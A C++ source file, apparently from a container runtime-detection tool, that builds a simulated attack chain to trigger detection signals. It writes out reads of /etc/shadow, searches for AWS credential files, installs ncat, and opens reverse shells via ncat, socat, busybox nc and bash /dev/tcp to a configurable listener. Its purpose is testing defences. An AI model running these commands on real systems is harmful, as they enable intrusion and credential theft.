#include "sandwatch/attack_sim/catalog.h"

#include <unistd.h>

#include <cctype>

#include "sandwatch/attack_sim/spawn.h"
#include "sandwatch/core/signals.h"

namespace sandwatch::attacksim {
namespace {

namespace sig = sandwatch::signals;

constexpr const char* kShadow = "/etc/shadow";
constexpr const char* kAwsPath = "*/.aws/credentials";
constexpr double kPackageTimeoutMs = 600'000;
constexpr double kReverseShellGraceMs = 30'000;

std::string Python() {
  return access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
}

bool HeldRequested(const CommandContext& ctx) { return ctx.hold_ms > 0; }

std::string HostForSocat(const std::string& host) {
  return host.find(':') != std::string::npos ? "TCP6:[" + host + "]" : "TCP:" + host;
}

Result<StepCommand> ShadowCommand(std::string_view v, const CommandContext& ctx) {
  StepCommand c;
  c.signals = {std::string(sig::kShadowFileAccess)};
  bool held = HeldRequested(ctx);
  if (v == "cat") {
    c.argv = held ? std::vector<std::string>{"cat", kShadow, "-"}
                  : std::vector<std::string>{"cat", kShadow};
    c.stdin_hold = held;
  } else if (v == "head") {
    c.argv = held ? std::vector<std::string>{"head", "-n", "100000", kShadow, "-"}
                  : std::vector<std::string>{"head", "-n", "100000", kShadow};
    c.stdin_hold = held;
  } else if (v == "tail") {
    c.argv = held ? std::vector<std::string>{"tail", "-f", kShadow}
                  : std::vector<std::string>{"tail", kShadow};
  } else if (v == "dd") {
    c.argv = {"dd", std::string("if=") + kShadow, "of=/dev/null", "status=none"};
    if (held) c.note = "dd has no form that stays alive: it ran to completion";
    held = false;
  } else if (v == "less") {
    c.argv = {"less", kShadow};
    if (held && ctx.have_tty) {
      c.stdout_tty = true;  // less pages on the shell's pty; attack-sim discards the pty output
    } else {
      if (held) c.note = "less needs a terminal to stay alive: it ran to completion";
      held = false;
    }
  } else if (v == "python") {
    c.argv = {Python(), "-c",
              held ? "import signal; open('/etc/shadow', 'rb').read(); signal.pause()"
                   : "open('/etc/shadow', 'rb').read()"};
  } else {
    return MakeError("shadow has no variant '" + std::string(v) + "'");
  }
  c.held = held;
  return c;
}

Result<StepCommand> AwsCommand(std::string_view v, const CommandContext& ctx) {
  StepCommand c;
  c.signals = {std::string(sig::kAwsCredentialDiscovery)};
  c.held = HeldRequested(ctx);
  c.timeout_ms = c.held ? 0 : 120'000;
  if (v == "find") {
    c.argv = {"find", "/", "-path", kAwsPath};
  } else if (v == "find-iname") {
    c.argv = {"find", "/", "-iname", ".aws/credentials"};
    c.note = "the blog's first run: -iname never matches a '/', so this finds nothing";
  } else if (v == "find-loop") {
    c.argv = c.held ? std::vector<std::string>{"sh", "-c",
                                               "while true; do find / -path \"*/.aws/credentials\" "
                                               "2>/dev/null; sleep 1; done"}
                    : std::vector<std::string>{"sh", "-c",
                                               "find / -path \"*/.aws/credentials\" 2>/dev/null"};
  } else if (v == "grep") {
    c.argv = {"grep",
              "-rlsI",
              "-m1",
              "--include=credentials",
              "--exclude-dir=proc",
              "--exclude-dir=sys",
              "--exclude-dir=dev",
              "-e",
              "aws_access_key_id",
              "/"};
    c.note =
        "grep opens files named credentials; only their paths are printed, and attack-sim "
        "discards even those";
  } else {
    return MakeError("aws-creds has no variant '" + std::string(v) + "'");
  }
  return c;
}

Result<StepCommand> PackageCommand(std::string_view v, const CommandContext& ctx) {
  StepCommand c;
  c.signals = {std::string(sig::kPackageManagerExecution)};
  c.timeout_ms = kPackageTimeoutMs;
  const std::string& pkg = ctx.package;
  const PackageMode m = ctx.package_mode;
  std::string local = ctx.deb;
  if (!local.empty() && local.front() != '/' && local.rfind("./", 0) != 0) local = "./" + local;
  if (v == "apt-get" || v == "apt") {
    std::string tool(v);
    if (m == PackageMode::kReal) c.argv = {tool, "install", "-y", pkg};
    if (m == PackageMode::kStaged) c.argv = {tool, "install", "-y", local};
    if (m == PackageMode::kSimulate) c.argv = {tool, "install", "-s", pkg};
  } else if (v == "dpkg") {
    c.argv = m == PackageMode::kSimulate
                 ? std::vector<std::string>{"dpkg", "--dry-run", "-i", local}
                 : std::vector<std::string>{"dpkg", "-i", local};
  } else if (v == "apk") {
    if (m == PackageMode::kReal) c.argv = {"apk", "add", pkg};
    if (m == PackageMode::kStaged) c.argv = {"apk", "add", "--allow-untrusted", local};
    if (m == PackageMode::kSimulate) c.argv = {"apk", "add", "--simulate", pkg};
  } else {
    return MakeError("package-install has no variant '" + std::string(v) + "'");
  }
  return c;
}

Result<StepCommand> NewBinaryCommand(std::string_view v, const CommandContext& ctx) {
  StepCommand c;
  c.held = HeldRequested(ctx);
  if (v == "ncat") {
    c.argv = c.held ? std::vector<std::string>{"ncat", "--recv-only", "-lU", ctx.unix_socket_path}
                    : std::vector<std::string>{"ncat", "--version"};
    if (ctx.package_installed_by_us) {
      c.signals = {std::string(sig::kPostStartBinaryExecution)};
    } else {
      c.note = "ncat was not installed by this run: its path is not new";
    }
  } else if (v == "dropped" || v == "script") {
    c.argv = {ctx.dropped_path};
    c.stdin_hold = c.held;  // a copy of cat (or a `read` script) lives while stdin stays open
    c.signals = {std::string(sig::kPostStartBinaryExecution)};
    if (v == "script") c.note = "a #!/bin/sh script: the kernel runs /bin/sh " + ctx.dropped_path;
  } else {
    return MakeError("new-binary has no variant '" + std::string(v) + "'");
  }
  return c;
}

Result<StepCommand> ReverseShellCommand(std::string_view v, const CommandContext& ctx) {
  StepCommand c;
  const std::string host = ctx.target_host;
  const std::string port = std::to_string(ctx.target_port);
  c.signals = {std::string(sig::kNcExecution), std::string(sig::kReverseShell)};
  if (v == "ncat") {
    c.argv = {"ncat", "--exec", "/bin/sh", host, port};
    if (ctx.package_installed_by_us) {
      c.signals.emplace_back(sig::kPostStartBinaryExecution);
    }
  } else if (v == "socat") {
    c.argv = {"socat", HostForSocat(host) + ":" + port, "EXEC:/bin/sh"};
  } else if (v == "busybox-nc") {
    c.argv = {"busybox", "nc", host, port, "-e", "/bin/sh"};
  } else if (v == "bash-tcp") {
    c.argv = {"bash", "-c", "exec bash -i >& /dev/tcp/" + host + "/" + port + " 0>&1"};
    c.signals = {std::string(sig::kReverseShell)};
    c.note = "runs as bash -i with the socket on stdin, stdout and stderr";
  } else {
    return MakeError("reverse-shell has no variant '" + std::string(v) + "'");
  }
  // The listener ends the shell (it sends `exit`); the cap only guards a silent peer.
  c.timeout_ms = ctx.hold_ms + kReverseShellGraceMs;
  return c;
}

}  // namespace

const std::vector<std::string>& ChainSteps() {
  static const std::vector<std::string> kSteps = {"shell",           "shadow",     "aws-creds",
                                                  "package-install", "new-binary", "reverse-shell"};
  return kSteps;
}

bool IsChainStep(std::string_view step) {
  for (const auto& s : ChainSteps()) {
    if (s == step) return true;
  }
  return false;
}

std::string StepDescription(std::string_view step) {
  if (step == "shell")
    return "an interactive bash on a pty, parent of every later step (unexpected_shell)";
  if (step == "shadow") return "read /etc/shadow, contents discarded (shadow_file_access)";
  if (step == "aws-creds")
    return "hunt for .aws/credentials, paths only (aws_credential_discovery)";
  if (step == "package-install") return "install ncat (package_manager_execution)";
  if (step == "new-binary")
    return "run a binary written after start-up (post_start_binary_execution)";
  if (step == "reverse-shell") return "sh over TCP to the listener (nc_execution, reverse_shell)";
  return "";
}

const std::vector<VariantInfo>& Variants() {
  static const std::vector<VariantInfo> kVariants = {
      {"shell", "bash", "bash",
       "/bin/bash --noprofile --norc -i on a pty, as kubectl exec -it gives"},
      {"shadow", "cat", "cat", "cat /etc/shadow (held: cat /etc/shadow - with stdin kept open)"},
      {"shadow", "tail", "tail",
       "tail -f /etc/shadow (blog's second run; burst: tail /etc/shadow)"},
      {"shadow", "head", "head", "head -n 100000 /etc/shadow (held: ... - with stdin kept open)"},
      {"shadow", "dd", "dd", "dd if=/etc/shadow of=/dev/null (cannot be held)"},
      {"shadow", "less", "less", "less /etc/shadow (held only on the shell's pty)"},
      {"shadow", "python", "",
       "python3 -c \"open('/etc/shadow','rb').read()\" (held: signal.pause())"},
      {"aws-creds", "find", "find", "find / -path \"*/.aws/credentials\" (killed at the hold)"},
      {"aws-creds", "find-iname", "find", "find / -iname .aws/credentials (blog's first run)"},
      {"aws-creds", "find-loop", "sh", "sh -c 'while true; do find / -path ...; sleep 1; done'"},
      {"aws-creds", "grep", "grep", "grep -rlsI -m1 --include=credentials -e aws_access_key_id /"},
      {"package-install", "dpkg", "dpkg", "dpkg -i DEB (staged default; simulate: --dry-run)"},
      {"package-install", "apt-get", "apt-get", "apt-get install -y ncat (real/simulate default)"},
      {"package-install", "apt", "apt", "apt install -y ncat (the blog's spelling)"},
      {"package-install", "apk", "apk", "apk add ncat (Alpine)"},
      {"new-binary", "ncat", "ncat", "the freshly installed ncat (--version; held: -lU SOCKET)"},
      {"new-binary", "dropped", "cat", "a copy of /bin/cat written to DROP_DIR/sw-newbin-XXXXXX"},
      {"new-binary", "script", "sh", "a #!/bin/sh script written to DROP_DIR/sw-newbin-XXXXXX"},
      {"reverse-shell", "ncat", "ncat", "ncat --exec /bin/sh HOST PORT (the blog's)"},
      {"reverse-shell", "socat", "socat", "socat TCP:HOST:PORT EXEC:/bin/sh"},
      {"reverse-shell", "busybox-nc", "busybox", "busybox nc HOST PORT -e /bin/sh"},
      {"reverse-shell", "bash-tcp", "bash", "bash -c 'exec bash -i >& /dev/tcp/HOST/PORT 0>&1'"},
  };
  return kVariants;
}

const VariantInfo* FindVariant(std::string_view step, std::string_view name) {
  for (const auto& v : Variants()) {
    if (v.step == step && v.name == name) return &v;
  }
  return nullptr;
}

std::string DefaultVariant(std::string_view step, std::string_view speed, PackageMode mode) {
  const bool blog = speed == "blog";
  if (step == "shell") return "bash";
  if (step == "shadow") return blog ? "tail" : "cat";
  if (step == "aws-creds") return blog ? "find-loop" : "find";
  if (step == "package-install") return mode == PackageMode::kStaged ? "dpkg" : "apt-get";
  if (step == "new-binary") return "auto";  // ncat when this run installed it, else dropped
  if (step == "reverse-shell") return "ncat";
  return "";
}

std::string UnavailableReason(const VariantInfo& v) {
  std::string tool = v.tool;
  if (v.name == "python")
    tool = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
  if (tool.empty()) return "";
  if (!FindOnPath(tool).ok()) return tool + " is not installed here (not on PATH)";
  return "";
}

Result<StepCommand> BuildCommand(std::string_view step, std::string_view variant,
                                 const CommandContext& ctx) {
  if (step == "shadow") return ShadowCommand(variant, ctx);
  if (step == "aws-creds") return AwsCommand(variant, ctx);
  if (step == "package-install") return PackageCommand(variant, ctx);
  if (step == "new-binary") return NewBinaryCommand(variant, ctx);
  if (step == "reverse-shell") return ReverseShellCommand(variant, ctx);
  return MakeError("no command for step '" + std::string(step) + "'");
}

std::string ShellQuote(std::string_view arg) {
  bool plain = !arg.empty();
  for (char c : arg) {
    if (!(std::isalnum(static_cast<unsigned char>(c)) || c == '/' || c == '.' || c == '-' ||
          c == '_' || c == '=' || c == ':' || c == ',' || c == '+')) {
      plain = false;
    }
  }
  if (plain) return std::string(arg);
  std::string out = "'";
  for (char c : arg) {
    if (c == '\'') {
      out += "'\\''";
    } else {
      out += c;
    }
  }
  return out + "'";
}

}  // namespace sandwatch::attacksim
